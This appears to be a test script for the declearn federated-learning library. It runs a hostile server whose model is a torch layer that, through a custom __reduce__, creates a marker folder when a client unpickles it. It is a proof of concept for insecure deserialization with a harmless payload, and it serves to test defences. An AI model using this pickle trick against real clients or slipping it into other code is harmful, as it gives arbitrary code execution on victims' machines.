"""A federated server whose model is a pickle that makes a folder when it is loaded.

`python hostile_server.py CERTIFICATES MARKER`; prints the port on which it listens.
"""

import asyncio
import os
import sys
import warnings
from pathlib import Path

warnings.simplefilter("ignore")

import torch  # noqa: E402
from declearn.communication.websockets import WebsocketsServer  # noqa: E402
from declearn.main import FederatedServer  # noqa: E402
from declearn.main.config import FLOptimConfig, FLRunConfig  # noqa: E402
from declearn.model.torch import TorchModel  # noqa: E402


class Hostile(torch.nn.Linear):
    """A layer that is loaded by a call of `os.mkdir`."""

    def __reduce__(self):
        return os.mkdir, (sys.argv[2],)


class Network(WebsocketsServer, register=False):
    """Tells its port."""

    async def start(self):
        await super().start()
        sys.stdout.write(f"{self._server.sockets[0].getsockname()[1]}\n")
        sys.stdout.flush()


async def main(folder):
    files = [str(folder / f"server-{kind}.pem") for kind in ("cert", "pkey")]
    network = Network("127.0.0.1", 0, *files)
    optim = FLOptimConfig.from_params(aggregator="averaging", client_opt=0.1)
    model = TorchModel(Hostile(64, 10), torch.nn.CrossEntropyLoss())
    run = FLRunConfig.from_params(rounds=1, register=1, training={"batch_size": 8})
    await FederatedServer(model, network, optim).async_run(run)


if __name__ == "__main__":
    asyncio.run(main(Path(sys.argv[1])))
